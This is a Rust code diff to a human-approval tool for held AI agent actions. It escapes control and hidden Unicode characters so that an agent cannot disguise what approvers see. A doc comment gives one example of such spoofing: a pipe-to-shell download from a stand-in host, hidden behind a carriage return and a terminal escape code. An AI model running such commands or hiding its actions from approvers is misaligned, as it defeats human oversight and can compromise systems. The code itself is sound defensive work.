@@ -23,11 +23,39 @@ fn key() -> Result<ApproverKey, i32> {
         })
 }
 
+/// The command as an approver reads it, every control character visible.
 fn command_of(a: &HeldAction) -> String {
-    a.intent
-        .script
-        .clone()
-        .unwrap_or_else(|| a.intent.argv.clone().unwrap_or_default().join(" "))
+    visible(
+        &a.intent
+            .script
+            .clone()
+            .unwrap_or_else(|| a.intent.argv.clone().unwrap_or_default().join(" ")),
+    )
+}
+
+/// Text that came from the agent (its command, the files it wrote, their
+/// contents, its output), made safe to print to an approver's terminal:
+/// control characters but line breaks and tabs, and the Unicode controls
+/// that reorder or hide text, are shown escaped (`\x1b`, `\u{202e}`). A
+/// carriage return or an escape sequence would otherwise let a line show
+/// something else than it holds (`curl evil | sh\r\x1b[2Kecho hello`).
+fn visible(text: &str) -> String {
+    let hidden = |c: char| {
+        (c.is_control() && c != '\n' && c != '\t')
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
+    };
+    if !text.chars().any(hidden) {
+        return text.to_string();
+    }
+    let mut out = String::with_capacity(text.len() + 8);
+    for c in text.chars() {
+        match c {
+            c if !hidden(c) => out.push(c),
+            c if (c as u32) < 0x80 => out.push_str(&format!("\\x{:02x}", c as u32)),
+            c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
+        }
+    }
+    out
 }
 
 fn valid_approvals(a: &HeldAction) -> usize {
@@ -51,7 +79,7 @@ pub fn pending(state: &Path, json: bool) -> i32 {
                         "{}  {:<11} {}  approvals {}/{}  `{}`",
                         a.id,
                         a.state.as_str(),
-                        a.session,
+                        visible(&a.session),
                         valid_approvals(a),
                         a.required_approvals,
                         command_of(a)
@@ -98,15 +126,15 @@ pub fn show(state: &Path, id: &str, json: bool) -> i32 {
             }
         );
     }
-    println!("  cwd:         {}", a.intent.cwd);
-    println!("  why held:    {}", a.summary);
+    println!("  cwd:         {}", visible(&a.intent.cwd));
+    println!("  why held:    {}", visible(&a.summary));
     println!(
         "  approvals:   {} of {} distinct approvers",
         valid_approvals(&a),
         a.required_approvals
     );
     if let Some(r) = &a.rejection_reason {
-        println!("  rejected:    {r}");
+        println!("  rejected:    {}", visible(r));
     }
     if let Some(c) = &ctx {
         print_preview(c, a.state.as_str());
@@ -331,7 +359,10 @@ const OUTPUT_LINES: usize = 20;
 fn is_binary(p: &Path) -> bool {
     use std::io::Read;
     let mut buf = [0u8; 8192];
-    let n = std::fs::File::open(p).and_then(|mut f| f.read(&mut buf)).unwrap_or(0);
+    // The preview's files are the run's: a FIFO among them must not hang `show`.
+    let n = crate::workspace::open_planted(p)
+        .and_then(|mut f| f.read(&mut buf))
+        .unwrap_or(0);
     // NUL bytes, or bytes that are not UTF-8 (a sequence cut at the end of the
     // sample does not count).
     buf[..n].contains(&0) || std::str::from_utf8(&buf[..n]).is_err_and(|e| e.error_len().is_some())
@@ -380,11 +411,11 @@ fn print_preview(c: &HeldContext, state: &str) {
             } else {
                 c.workspace.join(path)
             };
-            println!("    {what:<9}{path} ({})", size_of(&at));
+            println!("    {what:<9}{} ({})", visible(path), visible(&size_of(&at)));
         }
     }
     for v in &p.violations {
-        println!("    refused  {v}");
+        println!("    refused  {}", visible(v));
     }
     let mut budget = DIFF_LINES_TOTAL;
     for path in p.modified.iter().chain(&p.added) {
@@ -407,7 +438,7 @@ fn print_preview(c: &HeldContext, state: &str) {
         let lines: Vec<&str> = text.lines().collect();
         let shown = lines.len().min(DIFF_LINES_PER_FILE).min(budget);
         for l in &lines[..shown] {
-            println!("    | {l}");
+            println!("    | {}", visible(l));
         }
         if shown < lines.len() {
             println!("    | ... {} more lines of diff not shown (cap: {DIFF_LINES_PER_FILE} per file, {DIFF_LINES_TOTAL} in all)", lines.len() - shown);
@@ -427,7 +458,7 @@ fn print_preview(c: &HeldContext, state: &str) {
             lines.len()
         );
         for l in lines.iter().take(OUTPUT_LINES) {
-            println!("    > {l}");
+            println!("    > {}", visible(l));
         }
     }
 }
